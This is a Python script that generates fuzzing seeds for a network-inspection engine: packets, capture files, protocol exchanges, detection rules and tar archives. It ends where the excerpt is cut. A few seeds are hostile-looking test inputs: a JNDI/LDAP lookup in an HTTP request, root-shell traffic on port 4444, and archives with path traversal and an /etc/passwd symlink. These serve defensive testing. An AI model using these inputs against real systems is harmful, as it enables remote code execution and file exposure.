#!/usr/bin/env python3
"""Writes fuzz/seeds: small inputs of our own making, in the form that each fuzz target reads.

Run it after a change of a form; the result is committed. Nothing here was captured or copied.
"""

import gzip
import io
import pathlib
import struct
import tarfile
import zlib

SEEDS = pathlib.Path(__file__).parent / "seeds"
C, S = 0, 0x80  # who speaks: client, server


def put(target, name, data):
    folder = SEEDS / target
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data.encode("latin-1") if isinstance(data, str) else data)


def turns(*script):
    """The form of conversations: a byte of direction and length (at most 126), then that many bytes."""
    out = b""
    for side, data in script:
        data = data.encode("latin-1") if isinstance(data, str) else data
        for at in range(0, len(data), 126):
            piece = data[at : at + 126]
            out += bytes([side | len(piece)]) + piece
    return out


# --- packets ------------------------------------------------------------------------------------


def ipv4(protocol, payload, fragment=0, options=b"", ident=7):
    length = 20 + len(options)
    return struct.pack(
        ">BBHHHBBH4s4s", 0x40 | length // 4, 0, length + len(payload), ident, fragment, 64, protocol, 0,
        bytes([10, 0, 0, 1]), bytes([192, 0, 2, 2])) + options + payload


def ipv6(header, payload):
    a, b = bytes.fromhex("20010db8" + "00" * 11 + "01"), bytes.fromhex("20010db8" + "00" * 11 + "02")
    return struct.pack(">IHBB16s16s", 6 << 28, len(payload), header, 64, a, b) + payload


def tcp(payload=b"", flags=0x18, options=b"", seq=1, ack=1, ports=(40000, 80)):
    options += b"\0" * (-len(options) % 4)
    return struct.pack(">HHIIBBHHH", *ports, seq, ack, (20 + len(options)) // 4 << 4, flags, 8192, 0, 0) + options + payload


def udp(payload=b"", port=53):
    return struct.pack(">HHHH", 40000, port, 8 + len(payload), 0) + payload


def ether(kind, payload, tags=b""):
    return b"\2\0\0\0\0\2\2\0\0\0\0\1" + tags + struct.pack(">H", kind) + payload


SYN_OPTIONS = bytes.fromhex("020405b40402080a00000001000000000103030a")
V4 = ipv4(6, tcp(b"GET / HTTP/1.1\r\n\r\n"))
FRAMES = {
    "tcp": ether(0x800, V4),
    "syn-options": ether(0x800, ipv4(6, tcp(flags=2, options=SYN_OPTIONS))),
    "ip-options": ether(0x800, ipv4(17, udp(b"x"), options=bytes.fromhex("8307040a0000010001000000"))),
    "fragment": ether(0x800, ipv4(17, b"A" * 16, fragment=0x2002)),
    "udp6": ether(0x86DD, ipv6(17, udp(b"hello"))),
    "extensions6": ether(0x86DD, ipv6(0, b"\x2b\0\1\4\0\0\0\0" + b"\x2c\0\0\0\0\0\0\0" + b"\x3c\0\0\1\0\0\0\7" + b"\6\0\1\4\0\0\0\0" + tcp())),
    "vlan": ether(0x800, V4, tags=bytes.fromhex("88a80001" + "81000002")),
    "mpls": ether(0x8847, bytes.fromhex("0001004000011140") + V4),
    "pppoe": ether(0x8864, struct.pack(">BBHHH", 0x11, 0, 1, len(V4) + 2, 0x21) + V4),
    "gre": ether(0x800, ipv4(47, bytes.fromhex("b0000800" + "00000000" + "00000001" + "00000002") + V4)),
    "gre-bridged": ether(0x800, ipv4(47, bytes.fromhex("00006558") + ether(0x800, V4))),
    "ip-in-ip": ether(0x800, ipv4(4, V4)),
    "teredo": ether(0x800, ipv4(17, udp(ipv6(6, tcp()), port=3544))),
    "vxlan": ether(0x800, ipv4(17, udp(bytes.fromhex("0800000000000100") + ether(0x800, V4), port=4789))),
    "geneve": ether(0x800, ipv4(17, udp(bytes.fromhex("0100655800000100" + "01020301deadbeef") + ether(0x800, V4), port=6081))),
    "icmp-unreachable": ether(0x800, ipv4(1, bytes.fromhex("0303000000000000") + V4[:28])),
    "icmp6-solicitation": ether(0x86DD, ipv6(58, bytes.fromhex("8500000000000000" + "0101020000000001"))),
    "sctp": ether(0x800, ipv4(132, bytes.fromhex("9c400bb80000000100000000" + "01000014" + "00" * 16))),
    "llc": b"\2\0\0\0\0\2\2\0\0\0\0\1" + struct.pack(">H", 8 + len(V4)) + bytes.fromhex("aaaa030000000800") + V4,
    "arp": ether(0x806, bytes.fromhex("0001080006040001" + "020000000001" + "0a000001" + "000000000000" + "0a000002")),
    "raw4": V4,
    "raw6": ipv6(6, tcp(b"x")),
    "sll": bytes.fromhex("000000010006020000000001000008000"[:-1]) + V4,
}
for name, frame in FRAMES.items():
    put("decode", name, frame)


# --- capture files ------------------------------------------------------------------------------


def pcap(frames, order="<", magic=0xA1B2C3D4):
    out = struct.pack(order + "IHHiIII", magic, 2, 4, 0, 0, 65535, 1)
    for second, frame in enumerate(frames):
        out += struct.pack(order + "IIII", second, 5, len(frame), len(frame)) + frame
    return out


def block(kind, body, order="<"):
    body += b"\0" * (-len(body) % 4)
    return struct.pack(order + "II", kind, len(body) + 12) + body + struct.pack(order + "I", len(body) + 12)


def pcapng(frames, order="<"):
    out = block(0x0A0D0D0A, struct.pack(order + "IHHq", 0x1A2B3C4D, 1, 0, -1), order)
    out += block(1, struct.pack(order + "HHI", 1, 0, 65535) + struct.pack(order + "HHB3xHH", 9, 1, 9, 0, 0), order)
    for frame in frames:
        out += block(6, struct.pack(order + "IIIII", 0, 0, 99, len(frame), len(frame)) + frame, order)
    out += block(3, struct.pack(order + "I", 4) + b"abcd", order)
    return out + block(5, struct.pack(order + "III", 0, 0, 0), order)


SOME = [FRAMES["tcp"], FRAMES["udp6"]]
put("reader", "classic", pcap(SOME))
put("reader", "classic-big-endian-nanoseconds", pcap(SOME, ">", 0xA1B23C4D))
put("reader", "pcapng", pcapng(SOME))
put("reader", "pcapng-big-endian", pcapng(SOME, ">"))
put("reader", "gzip", gzip.compress(pcap(SOME), mtime=0))
# One raw block: magic, no checksum, single segment with its size, then the bytes.
small = pcap(SOME[:1])
put("reader", "zstd", bytes.fromhex("28b52ffd20") + bytes([len(small)]) + struct.pack("<I", len(small) << 3 | 1)[:3] + small)

# --- flow ---------------------------------------------------------------------------------------


def segment(seq, ack, flags, payload=b"", action=0, extra=0):
    """Numbers are stored as 256 more than what they mean (`fuzz_reassembly`)."""
    seq, ack = seq + 256, ack + 256
    return bytes([seq >> 8, seq & 255, ack >> 8, ack & 255, extra, flags, 200, len(payload), action]) + payload


OPEN = segment(0, 0, 2) + segment(0, 1, 0x12, action=1) + segment(1, 1, 0x10)
put("reassembly", "in-order", bytes([0, 0]) + OPEN + segment(1, 1, 0x18, b"hello") + segment(1, 6, 0x10, action=1 | 0x40 | 5))
put("reassembly", "hole-and-overlap", bytes([1, 0]) + OPEN + segment(6, 1, 0x18, b"world") + segment(4, 1, 0x18, b"XXYY")
    + segment(1, 1, 0x18, b"hello") + segment(1, 11, 0x10, action=0x81))
put("reassembly", "midstream-small-limits", bytes([2, 6]) + segment(50, 9, 0x18, b"A" * 60) + segment(200, 9, 0x18, b"B" * 60)
    + segment(9, 260, 0x10, action=0x81) + segment(260, 9, 4))
put("reassembly", "close", bytes([3, 0]) + OPEN + segment(1, 1, 0x19, b"x") + segment(1, 3, 0x11, action=1) + segment(3, 2, 0x10))


def fragment(offset, more, payload, far=True):
    flags = int(more) | (8 if far else 0)
    return bytes([offset >> 8, offset & 255, flags, 20, len(payload)]) + b"\x45" + b"\0" * 19 + payload


put("defrag", "two", bytes([0, 0xF0]) + fragment(0, True, b"A" * 16) + fragment(2, False, b"B" * 9))
put("defrag", "backwards-with-overlap", bytes([1, 0xF0]) + fragment(3, False, b"C" * 5) + fragment(1, True, b"B" * 24) + fragment(0, True, b"A" * 16))
put("defrag", "small-limits", bytes([2, 0xF1]) + b"".join(fragment(n * 2, True, b"D" * 8) for n in range(8)) + fragment(16, False, b"E"))

# --- content ------------------------------------------------------------------------------------

TEXT = b"It was the best of bytes, it was the worst of bytes. " * 8
put("inflate", "gzip", b"\x40" + gzip.compress(TEXT, mtime=0))
put("inflate", "zlib", b"\x41" + zlib.compress(TEXT))
put("inflate", "deflate", b"\x21" + zlib.compress(TEXT, 9, -15))
put("inflate", "stored", b"\x01" + zlib.compress(TEXT[:60], 0))

MAIL = """From: a@example.org\r
To: b@example.org\r
Subject: =?utf-8?q?caf=C3=A9?=\r
MIME-Version: 1.0\r
Content-Type: multipart/mixed;\r
 boundary="xx"\r
\r
preamble\r
--xx\r
Content-Type: text/plain\r
Content-Transfer-Encoding: quoted-printable\r
\r
a=3Db=\r
c\r
--xx\r
Content-Type: application/octet-stream; name="f.bin"\r
Content-Transfer-Encoding: base64\r
Content-Disposition: attachment; filename="f.bin"\r
\r
SGVsbG8sIHdvcmxkIQ==\r
--xx\r
Content-Transfer-Encoding: x-uuencode\r
\r
begin 644 a\r
#0V%T\r
`\r
end\r
--xx--\r
..dots\r
"""
put("mime", "multipart", MAIL)
put("mime", "nested", "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n"
    "--b\r\n\r\ntext\r\n--b--\r\n--a\r\nContent-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nbody\r\n--a--\r\n")
put("multipart", "form", '\x30preamble\r\n--B\r\nContent-Disposition: form-data; name="f"; filename="a"\r\nContent-Type: x/y\r\n\r\nDATA\r\n'
    "--B\r\nContent-Disposition: form-data\r\n\r\ntwo\r\n--B--\r\n")

# --- protocols ----------------------------------------------------------------------------------


def http(plan, *messages):
    """16 bytes: who speaks and how many bytes of what follows; then all bytes."""
    return bytes(plan).ljust(16, b"\xfe")[:16] + b"".join(m.encode("latin-1") if isinstance(m, str) else m for m in messages)


def exchange(request, response):
    """A plan that gives 127 bytes at a time, client first, server last."""
    pieces = []
    for side, data in ((0, request), (1, response)):
        data = data.encode("latin-1") if isinstance(data, str) else data
        pieces += [(min(128, len(data) - at) - 1) << 1 | side for at in range(0, len(data), 128)]
    return http((pieces * 16)[:16], request, response)


put("http", "get", exchange("GET /a/../b%20c/?q=%41&x=1#f HTTP/1.1\r\nHost: example.org\r\nCookie: a=b\r\n\r\n",
                            "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nSet-Cookie: s=1\r\n\r\nhello"))
put("http", "post-form", exchange("POST /f HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 7\r\n\r\na=1&b=2",
                                  "HTTP/1.0 404 Not Found\r\n\r\nuntil the end"))
put("http", "chunked", exchange("GET / HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n4;x=y\r\nWiki\r\n5\r\npedia\r\n0\r\nA: b\r\n\r\n"))
put("http", "gzip", exchange("GET / HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n" + gzip.compress(b"A" * 99, mtime=0)))
put("http", "multipart", exchange('POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=B\r\nContent-Length: 74\r\n\r\n--B\r\nContent-Disposition: form-data; name="a"\r\nContent-Type: a/b\r\n\r\nX\r\n--B--', ""))
put("http", "pipelined", exchange("GET /1 HTTP/1.1\r\n\r\nHEAD /2 HTTP/1.1\r\n\r\n", "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 304 Not Modified\r\n\r\nHTTP/1.1 204 No\r\n\r\n"))
put("http", "connect", exchange("CONNECT h:443 HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\n\r\n\x16\3\1\0\1x"))
put("http", "simple", exchange("GET /\r\n", "<html>"))

QUESTION = b"\3www\7example\3org\0\0\1\0\1"
QUERY = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + QUESTION
ANSWER = struct.pack(">HHHHHH", 1, 0x8180, 1, 1, 0, 0) + QUESTION + b"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\x0a\0\0\1"
put("dns", "datagrams", turns((C, QUERY), (S, ANSWER)))
put("dns", "stream", turns((C, struct.pack(">H", len(QUERY)) + QUERY), (S, struct.pack(">H", len(ANSWER)) + ANSWER)))
put("modbus", "read", turns((C, bytes.fromhex("000100000006010300000002")), (S, bytes.fromhex("00010000000701030400010002"))))
put("modbus", "broken", turns((C, bytes.fromhex("00010000ffff01"))))
put("gtp", "versions", turns((C, bytes.fromhex("3210000b00000001000700000e05830002" "0161")), (C, bytes.fromhex("4820000d00000001000007000300010005")),
    (S, bytes.fromhex("1e020002" + "ff" * 16 + "0e05"))))
ENIP = lambda command, data: struct.pack("<HHIIQI", command, len(data), 7, 0, 0, 0) + data
CIP = lambda data: ENIP(0x6f, struct.pack("<IHHHHHH", 0, 0, 2, 0, 0, 0xb2, len(data)) + data)
put("cip", "read", turns((C, ENIP(0x65, b"\1\0\0\0")), (S, ENIP(0x65, b"\1\0\0\0")), (C, CIP(bytes.fromhex("0e03200124013001"))), (S, CIP(bytes.fromhex("8e00000001")))))
put("cip", "routed", turns((C, CIP(bytes.fromhex("520220062401") + bytes.fromhex("05f708000e032001240130010100") + b"\1\0"))))
put("iec104", "start", turns((C, bytes.fromhex("680407000000")), (S, bytes.fromhex("68040b000000")), (S, bytes.fromhex("680e00000000010103000100010000ff"))))
put("mms", "read", turns((C, bytes.fromhex("0300001c02f08001000100610f300d020103a008a006020107a40100"))))
put("s7commplus", "create", turns((C, bytes.fromhex("0300000b06e00000000100")), (S, bytes.fromhex("0300000b06d00001000200")), (C, bytes.fromhex("0300001802f0807201000931000004ca0000000172010000"))))
put("s7commplus", "fragments", turns((C, bytes.fromhex("0300000d02f00072020009310000")), (C, bytes.fromhex("0300000b02f080054c0000"))))
put("dnp3", "read", turns((C, bytes.fromhex("056408c40a0001000000c0c001000000"))))
put("dns", "loop", turns((C, struct.pack(">HHHHHH", 1, 0, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1")))

put("smtp", "mail", turns((S, "220 mx ESMTP\r\n"), (C, "EHLO a\r\n"), (S, "250-mx\r\n250 STARTTLS\r\n"), (C, "MAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"),
    (S, "250 ok\r\n250 ok\r\n354 go\r\n"), (C, MAIL + ".\r\nQUIT\r\n"), (S, "250 ok\r\n221 bye\r\n")))
put("smtp", "bdat", turns((S, "220 x\r\n"), (C, "EHLO a\r\nMAIL FROM:<a>\r\nRCPT TO:<b>\r\nBDAT 12 LAST\r\nSubject: a\r\n"), (S, "250 ok\r\n" * 4)))
put("smtp", "starttls", turns((S, "220 x\r\n"), (C, "EHLO a\r\nSTARTTLS\r\n"), (S, "250 ok\r\n220 go\r\n"), (C, "\x16\3\1\0\5")))
put("imap", "fetch", turns((S, "* OK IMAP4rev1\r\n"), (C, "a1 LOGIN u p\r\na2 SELECT INBOX\r\na3 FETCH 1 BODY[]\r\n"),
    (S, "a1 OK\r\n* 1 EXISTS\r\na2 OK\r\n* 1 FETCH (BODY[] {26}\r\nSubject: a\r\n\r\nhello there\r\n)\r\na3 OK\r\n"), (C, "a4 LOGOUT\r\n")))
put("imap", "append", turns((S, "* OK\r\n"), (C, "a APPEND INBOX {14}\r\n"), (S, "+ go\r\n"), (C, "Subject: a\r\n\r\n\r\n"), (S, "a OK\r\n")))
put("pop3", "retr", turns((S, "+OK hi\r\n"), (C, "USER a\r\nPASS b\r\nRETR 1\r\nQUIT\r\n"), (S, "+OK\r\n+OK\r\n+OK 120 octets\r\n" + MAIL + ".\r\n+OK\r\n")))
put("ftp", "passive", turns((S, "220 ftp\r\n"), (C, "USER a\r\nPASS b\r\nPASV\r\n"), (S, "331 pw\r\n230 in\r\n227 Entering Passive Mode (10,0,0,2,19,136)\r\n"), (C, "RETR f\r\n"), (S, "150 go\r\n226 done\r\n")))
put("ftp", "active", turns((S, "220 ftp\r\n"), (C, "PORT 10,0,0,1,4,1\r\nEPRT |2|2001:db8::1|1025|\r\nEPSV\r\n\xff\xf4\xffABOR\r\nSTOR f\r\n"), (S, "200 ok\r\n229 Entering Extended Passive Mode (|||5000|)\r\n")))
put("telnet", "options", turns((S, b"\xff\xfd\x18\xff\xfb\x01login: "), (C, b"\xff\xfb\x18root\r\n\xff\xfa\x18\0xterm\xff\xf0\xff\xf6\xff\xff")))


def ssh(kind, body=b""):
    return struct.pack(">IBB", len(body) + 6, 4, kind) + body + b"\0" * 4


put("ssh", "handshake", turns((S, b"SSH-2.0-OpenSSH\r\n"), (C, b"SSH-2.0-x\r\n"), (S, ssh(20, b"kex")), (C, ssh(20, b"kex") + ssh(30, b"init")),
    (S, ssh(31, b"reply") + ssh(21)), (C, ssh(21) + b"secret")))


def record(kind, body):
    return struct.pack(">BHH", kind, 0x303, len(body)) + body


def handshake(kind, body):
    return bytes([kind]) + struct.pack(">I", len(body))[1:] + body


NAME = b"example.org"
SNI = struct.pack(">HHHBH", 0, len(NAME) + 5, len(NAME) + 3, 0, len(NAME)) + NAME
HELLO = b"\3\3" + b"r" * 32 + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(SNI)) + SNI
SERVER = b"\3\3" + b"s" * 32 + b"\0\x13\1\0"
put("tls", "handshake", turns((C, record(22, handshake(1, HELLO))), (S, record(22, handshake(2, SERVER) + handshake(11, b"\0\0\0") + handshake(14, b""))),
    (C, record(20, b"\1") + record(22, b"e" * 40)), (S, record(20, b"\1") + record(23, b"data"))))
put("tls", "ssl2", turns((C, bytes.fromhex("802e0100030015000000100100800300800700c0") + b"c" * 26)))
put("tls", "heartbeat", turns((C, record(24, b"\1\x40\0"))))

INVITE = "INVITE sip:b@example.org SIP/2.0\r\nVia: SIP/2.0/UDP a\r\nFrom: <sip:a@x>\r\nTo: <sip:b@x>\r\nCall-ID: 1\r\nCSeq: 1 INVITE\r\nContent-Length: 5\r\n\r\nv=0\r\n"
put("sip", "invite", turns((C, INVITE), (S, "SIP/2.0 200 OK\r\nCSeq: 1 INVITE\r\nContent-Length: 0\r\n\r\n")))
put("sip", "datagram", b"\x7f" + INVITE.encode())

CALL = struct.pack(">IIIIII", 9, 0, 2, 100000, 2, 3) + b"\0" * 16 + struct.pack(">IIII", 100024, 1, 6, 0)
put("sunrpc", "datagram", turns((C, CALL), (S, struct.pack(">III", 9, 1, 0) + b"\0" * 16)))
put("sunrpc", "records", turns((C, struct.pack(">I", len(CALL) // 2) + CALL[: len(CALL) // 2] + struct.pack(">I", 0x80000000 | len(CALL) // 2) + CALL[len(CALL) // 2 :])))


def dce(kind, body, flags=3, call=1):
    return struct.pack("<BBBBIHHI", 5, 0, kind, flags, 0x10, 16 + len(body), 0, call) + body


UUID = bytes(range(16))
BIND = struct.pack("<HHIBxxx", 4280, 4280, 0, 1) + struct.pack("<HBx", 0, 1) + UUID + struct.pack("<HH", 3, 0) + b"\4" * 16 + b"\2\0\0\0"
BIND_ACK = struct.pack("<HHIH", 4280, 4280, 1, 4) + b"135\0" + b"\0\0" + struct.pack("<BxxxHH", 1, 0, 0) + b"\4" * 16 + b"\2\0\0\0"
CALLS = dce(0, struct.pack("<IHH", 8, 0, 5) + b"stub", flags=1) + dce(0, struct.pack("<IHH", 4, 0, 5) + b"more", flags=2)
RPC = [(C, dce(11, BIND)), (S, dce(12, BIND_ACK)), (C, CALLS), (S, dce(2, struct.pack("<IHBB", 4, 0, 0, 0) + b"done"))]
put("dcerpc", "call", turns(*RPC))


def netbios(body):
    return struct.pack(">I", len(body)) + body


def smb1(command, body, flags=0):
    return netbios(b"\xffSMB" + struct.pack("<BIBHHQHHHHH", command, 0, flags, 0xC843, 0, 0, 0, 1, 2, 3, 4) + body)


def smb2(command, body, flags=0, message=1):
    return netbios(b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16s", 64, 0, 0, command, 1, flags, 0, message, 0, 1, 2, b"") + body)


put("smb", "smb1", turns((C, smb1(0x72, b"\0\x0c\0\2NT LM 0.12\0")), (S, smb1(0x72, b"\0\0\0", 0x80)),
    (C, smb1(0xA2, b"\x18" + b"\0" * 48 + b"\x0b\0\0\\\0s\0v\0c\0\0\0"))))
PIPE = "svcctl".encode("utf-16-le")
CREATE = struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 3, 0, 3, 1, 0, 120, len(PIPE), 0, 0) + PIPE
CREATED = struct.pack("<HBBI", 89, 0, 0, 1) + b"\0" * 56 + b"F" * 16 + b"\0" * 8
WRITE = struct.pack("<HHIQ16sIIHHI", 49, 112, len(dce(11, BIND)), 0, b"F" * 16, 0, 0, 0, 0, 0) + dce(11, BIND)
put("smb", "smb2-pipe", turns((C, smb2(0, b"\x24\0\1\0")), (S, smb2(0, b"\x41\0", 1)), (C, smb2(5, CREATE, 0, 2)), (S, smb2(5, CREATED, 1, 2)), (C, smb2(9, WRITE, 0, 3))))

for name, (side, data) in {
    "http": (C, "GET / HTTP/1.1\r\n"), "http-answer": (S, "HTTP/1.1 200 OK\r\n"), "smtp": (S, "220 mx ESMTP\r\n"), "ssh": (C, "SSH-2.0-x\r\n"),
    "ftp": (S, "220 FTP\r\n"), "pop3": (S, "+OK POP3\r\n"), "imap": (S, "* OK IMAP4\r\n"), "sip": (C, "INVITE sip:a SIP/2.0\r\n"), "telnet": (S, b"\xff\xfd\x18"),
    "tls": (C, record(22, handshake(1, HELLO))), "dcerpc": (C, dce(11, BIND)), "smb": (C, smb1(0x72, b"\0")), "smb2": (C, smb2(0, b"\0")),
    "mysql": (S, b"\x4a\0\0\0\x0a8.0.1\0"), "rdp": (C, bytes.fromhex("0300001302e000000000000100080003000000")), "nothing": (C, bytes(range(40))),
}.items():
    data = data.encode("latin-1") if isinstance(data, str) else data
    for extended in (0, 1):
        put("wizard", name + ("-extended" if extended else ""), bytes([extended | (2 if side else 0) | 12]) + data)

# --- the kernel and the whole engine ------------------------------------------------------------


def link_message(kind, name, flags=0):
    attributes = struct.pack("=HH", 4 + len(name) + 1, 3) + name + b"\0"
    body = struct.pack("=BxHiII", 0, 1, 7, 0x10043, 0xFFFFFFFF) + attributes
    body += b"\0" * (-len(body) % 4)
    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body


put("link_messages", "new-and-gone", b"\1" + link_message(16, b"cali123") + link_message(17, b"cali123"))
put("link_messages", "done", b"\1" + link_message(16, b"eth0", 2) + struct.pack("=IHHIIi", 20, 3, 2, 1, 0, 0))


def framed(*frames):
    return b"".join(struct.pack(">BH", 0, len(frame)) + frame for frame in frames)


def swap(datagram):
    return datagram[:12] + datagram[16:20] + datagram[12:16] + datagram[20:]


def conversation(port, *script):
    """A TCP connection with a handshake; every piece of data is acknowledged, both sides close."""
    position, frames = [0, 0], []

    def send(side, flags, data=b""):
        ports = (40000, port) if side == 0 else (port, 40000)
        datagram = ipv4(6, tcp(data, flags, seq=100 + position[side], ack=100 + position[1 - side] if flags != 2 else 0, ports=ports))
        frames.append(ether(0x800, datagram if side == 0 else swap(datagram)))
        position[side] += len(data) + (flags & 3 != 0)

    send(0, 2), send(1, 0x12), send(0, 0x10)
    for speaker, data in script:
        send(int(speaker == S), 0x18, data.encode("latin-1") if isinstance(data, str) else data)
        send(int(speaker != S), 0x10)
    send(0, 0x11), send(1, 0x11), send(0, 0x10)
    return framed(*frames)


put("frames", "http", conversation(80, (C, "GET /?q=${jndi:ldap://x/a} HTTP/1.1\r\nHost: h\r\n\r\n"), (S, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nuid=")))
put("frames", "http-post", conversation(8080, (C, "POST /c HTTP/1.1\r\nUser-Agent: Mozilla/4.0\r\nContent-Length: 8\r\n\r\nsmk=abcd"), (S, "HTTP/1.1 200 OK\r\n\r\n")))
put("frames", "smtp", conversation(25, (S, "220 mx ESMTP\r\n"), (C, "EHLO a\r\nMAIL FROM:<a>\r\nDATA\r\n"), (S, "250 a\r\n250 b\r\n354 c\r\n"), (C, MAIL + ".\r\n")))
put("frames", "tls", conversation(443, (C, record(22, handshake(1, HELLO))), (S, record(22, handshake(2, SERVER)))))
put("frames", "shell", conversation(4444, (S, "uid=0(root) gid=0(root)\n"), (C, "/bin/sh -i\n" * 20)))
put("frames", "dns", framed(ether(0x800, ipv4(17, udp(QUERY)))))
put("frames", "fragments", framed(ether(0x800, ipv4(17, udp(QUERY)[:24], fragment=0x2000)), ether(0x800, ipv4(17, udp(QUERY)[24:], fragment=3))))
put("frames", "layers", framed(*FRAMES.values()))

# --- queries ------------------------------------------------------------------------------------

put("query", "page", "severity>=high ns:shop -is:(dismissed noisy) trojan \"cnc connection\" OR has:mitre")
put("query", "fields", "sid:(1 2,3) client:scan/* ip:10.0.0.0/8 2001:db8::1 uri:/a?b=c time>2026-11-24T03:12:07.5+01:00 last_seen>now-2h \"record.a-b\"=7 tapir.gid!=1")
put("query", "incumbent", "type = waf and NOT (source_ip != '10.0.0.1' OR dest_name IN {\"frontend-*\", b}) AND !name EMPTY AND severity <= 80 or host NOTIN {'a?'}")
put("query", "escapes", "msg:\"a\\\"b\\\\c\\*d*\" reason='it\\'s' description=\"C:\\dir\" cve:CVE-2021-44228 dismissed=false")
put("query", "wrong", "(severty>=hihg AND a && b - c sid:>=5 type in waf 'open")

# --- selectors ----------------------------------------------------------------------------------

put("selector", "frontend", 'app == "frontend"')
put("selector", "words", "! has(my-label) || my-label starts with 'prod' && role not in {'frontend','business',} && !(a contains 'x' || b endswith \"it's\")")
put("selector", "calls", "((all( ) && !global()) || pcns.projectcalico.org/name in {} )")
put("selector", "wrong", "app in {\"a\" 'b'} & (a = b and c starts x")

# --- rules --------------------------------------------------------------------------------------

put("rules", "snort3", 'alert http $HOME_NET any -> any any ( msg:"a; b\\"c"; flow:to_server,established; http_uri; content:"/x|20|y",fast_pattern,nocase,offset 1,depth 9;\n'
    ' pcre:"/a[bc]+/i"; byte_test:1,>,0x10,2,relative; reference:cve,2020-1; classtype:web-application-attack; sid:1; rev:2; )\n')
put("rules", "snort2", '# alert tcp any any -> any 80 (msg:"off"; sid:2;)\nvar HOME_NET [10.0.0.0/8,!10.1.0.0/16]\nportvar P [80,8000:8100,!8080]\n'
    'alert tcp $HOME_NET $P <> any any (msg:"two"; content:!"a"; distance:1; within:5; http_header; uricontent:"/z"; threshold:type limit,track by_src,count 1,seconds 60; sid:3; rev:1;)\n')
put("rules", "suricata", 'alert http any any -> any any (msg:"s"; http.uri; content:"/a"; startswith; endswith; bsize:>3; isdataat:!1,relative; metadata:a b, c d; sid:4; rev:1;)\n')
put("rules", "filters", "suppress gen_id 1, sig_id 5, track by_src, ip [10.0.0.0/8]\nevent_filter gen_id 1, sig_id 0, type both, track by_dst, count 3, seconds 5\n"
    "rate_filter gen_id 1, sig_id 5, track by_rule, count 1, seconds 1, new_action drop, timeout 9\nconfig classification: x,some text,2\ninclude other.rules\n")
put("rules", "file-rule", 'file_id (msg:"x"; file_meta:type A, id 1; content:"|4D 5A|"; gid:4; sid:5;)\nalert file ( content:"x"; sid:6; )\nalert ( sid:7; gid:116; )\n')
put("fold", "snort2", 'alert tcp any any -> any 80 (msg:"two"; content:"a"; offset:1; depth:5; nocase; http_uri; content:!"b"; distance:0; within:9; rawbytes; '
    'uricontent:"/z"; urilen:5<>9,norm; pcre:"/x/Ui"; isdataat:4,relative; byte_jump:2,0,relative; threshold:type both,track by_dst,count 2,seconds 9; sid:1; rev:1;)\n')
put("fold", "suricata", 'alert http $HOME_NET any -> any any (msg:"s"; flow:established,to_server; http.method; content:"POST"; http.uri; content:"/a"; startswith; fast_pattern; bsize:>3; '
    'http.header_names; content:"|0d 0a|Host|0d 0a|"; file.data; content:"x"; endswith; dns.query; content:"a.b"; tls.sni; content:"h"; xbits:set,a,track ip_src; sid:2; rev:3;)\n')
for number, text in enumerate(['"a|41 42|b",nocase', '!"x\\"\\\\\\;",offset 3,depth 0x10', "1,2,relative , string hex", "10<>20", "!/a\\/b/iR", "field host,request", "[1,2,!3:5]"]):
    put("value", f"{number}", text)
    put("option_value", f"{number}", text)
put("content", "window", bytes([130, 9, 2, 0b0010_0011]) + b"abcxxabcABC")
put("content", "relative-negated", bytes([120, 4, 0, 0b0100_1110]) + b"zyxwvuzzz")

# --- archives of rules ---------------------------------------------------------------------------


def archive(*entries, form=tarfile.GNU_FORMAT):
    """A tar archive of (path, type, text) without times and users, so that it is the same each time."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=form) as out:
        for path, kind, text in entries:
            info = tarfile.TarInfo(path)
            info.type, info.size = kind, len(text)
            info.linkname = "/etc/passwd" if kind == tarfile.SYMTYPE else ""
            out.addfile(info, io.BytesIO(text))
    return file.getvalue()[:4096]


RULE = b'alert tcp any any -> any any ( msg:"x"; sid:1; )\n'
FILE = tarfile.REGTYPE
for name, data in {
    "plain": RULE, "files": archive(("./rules/a.rules", FILE, RULE), ("README", FILE, b"x")), "outside": archive(("../a.rules", FILE, RULE)),
    "link": archive(("a.rules", tarfile.SYMTYPE, b"")), "long": archive(("d/" * 120 + "a.rules", FILE, RULE)),
    "pax": archive(("é/" * 80 + "a.rules", FILE, RULE), form=tarfile.PAX_FORMAT), "nothing": b"\0" * 1024, "zip": b"PK\x03\x04",
}.items():
    put("unpack", name, b"\0" + data)
    put("unpack", name + "-gzip", b"\1" + data)

# --- spool --------------------------------------------------------------------------------------

SALT = 0x5EED


def segment(*frames, major=1):
    """A segment's file: two copies of the header, then frames."""
    slot = b"TAPIRSPL" + struct.pack("<BBHQQQQIH", major, 0, 1024, 3, 1764000000, 10, 0, SALT, 4) + b"node"
    slot = slot.ljust(508, b"\0")
    return (slot + struct.pack("<I", zlib.crc32(slot))) * 2 + b"".join(frames)


def frame(seq, payload, kind=1, more=b""):
    head = b"\xffTR\xfe" + struct.pack("<BBHIQQQI", kind, 44 + len(more), 0, len(payload), seq, 1, 2, zlib.crc32(payload, SALT)) + more
    return head + struct.pack("<I", zlib.crc32(head, SALT)) + payload


A, B, D = frame(10, b'{"n":1}'), frame(11, b'{"n":2}'), frame(12, b"{}", kind=9)
for name, data in {
